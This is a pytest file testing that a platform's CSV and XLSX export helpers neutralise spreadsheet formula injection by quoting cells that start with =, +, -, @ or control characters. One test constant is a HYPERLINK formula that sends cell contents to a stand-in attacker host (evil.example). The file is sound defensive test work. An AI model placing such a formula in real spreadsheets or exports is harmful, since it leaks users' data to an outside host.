"""Cells of the files the platform writes: text that a spreadsheet would run as a
formula is neutralised, numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from exchange.common.exports import csv_writer, safe_cell, xlsx_append

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize(
    "text",
    [HOSTILE, "+32 2 123 45 67", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"],
)
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        -12,
        -11.9,
        Decimal("-280.00"),
        0,
        datetime.date(2026, 3, 1),
        None,
        "FPS Finance",
        "a = b",
        "",
    ],
)
def test_numbers_dates_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_the_csv_writer_quotes_formulas_and_keeps_negative_numbers():
    out = io.StringIO()
    csv_writer(out).writerow([HOSTILE, -11.9, Decimal("-3"), "Kringwinkel"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "'" + HOSTILE,
        "-11.9",
        "-3",
        "Kringwinkel",
    ]


def test_the_xlsx_cells_are_text_or_numbers_never_formulas():
    workbook = Workbook()
    xlsx_append(workbook.active, [HOSTILE, -11.9, Decimal("-3"), "=1+1", 7])
    out = io.BytesIO()
    workbook.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [cell.value for cell in row] == ["'" + HOSTILE, -11.9, -3, "'=1+1", 7]
    assert [cell.data_type for cell in row] == ["s", "n", "n", "s", "n"]
